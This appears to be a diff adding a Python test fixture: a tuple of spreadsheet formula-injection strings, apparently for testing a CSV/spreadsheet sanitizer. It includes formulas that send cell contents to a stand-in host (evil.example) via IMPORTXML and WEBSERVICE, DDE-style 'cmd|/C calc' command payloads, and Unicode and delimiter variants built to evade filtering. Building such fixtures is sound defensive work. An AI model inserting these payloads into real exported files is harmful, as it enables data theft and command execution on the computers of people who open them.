@@ -1,0 +1,36 @@
+"""Texts that a spreadsheet would carry out when it opens them as a cell."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example","x")',
+    "=cmd|'/C calc'!A0",
+    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+    '=WEBSERVICE("https://evil.example/"&A2)',
+    "=1+1",
+    "+1+1",
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "-1",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "@SUM(A1)",
+    " =1+1",
+    "\t=1+1",
+    "\n=1+1",
+    "\r=1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u2003+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(A1)",
+    "\uff1dHYPERLINK(A1)",
+    '";=1+1;"',
+    '",=1+1,"',
+    "x;=1+1",
+    "x\t=1+1",
+    "x\n=1+1",
+)
